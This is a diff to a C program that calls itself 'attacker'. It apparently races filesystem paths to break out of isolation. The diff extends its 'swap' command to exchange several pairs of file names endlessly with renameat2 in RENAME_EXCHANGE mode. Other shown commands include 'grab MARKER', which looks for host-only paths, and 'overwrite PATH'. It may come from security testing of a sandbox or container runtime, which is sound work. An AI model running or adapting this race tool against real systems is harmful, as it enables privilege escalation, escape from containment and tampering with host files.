@@ -19,11 +19,12 @@ static void ready(void) {
     fflush(stdout);
 }
 
-/* swap A B: exchanges the two names, over and over. */
-static _Noreturn void swap(const char *one, const char *other) {
+/* swap A B ...: exchanges the two names of each pair, one pair after the other, over and over. */
+static _Noreturn void swap(char **names, int pairs) {
     ready();
     for (;;)
-        if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2) != 0) perror("swap"), usleep(1000);
+        for (int i = 0; i < pairs; i++)
+            if (syscall(SYS_renameat2, AT_FDCWD, names[2 * i], AT_FDCWD, names[2 * i + 1], 2) != 0) perror("swap"), usleep(1000);
 }
 
 /* Whether it is a thing of the host: the marker is a name that only the host's paths have. */
@@ -177,10 +178,10 @@ static int overwrite(const char *path) {
 }
 
 int main(int count, char **args) {
-    if (count == 4 && strcmp(args[1], "swap") == 0) swap(args[2], args[3]);
+    if (count >= 4 && count % 2 == 0 && strcmp(args[1], "swap") == 0) swap(args + 2, count / 2 - 1);
     if (count == 3 && strcmp(args[1], "grab") == 0) grab(args[2]);
     if (count == 2 && strcmp(args[1], "trace") == 0) trace();
     if (count == 3 && strcmp(args[1], "overwrite") == 0) return overwrite(args[2]);
-    fputs("usage: attacker swap A B | grab MARKER | trace | overwrite PATH\n", stderr);
+    fputs("usage: attacker swap A B ... | grab MARKER | trace | overwrite PATH\n", stderr);
     return 2;
 }
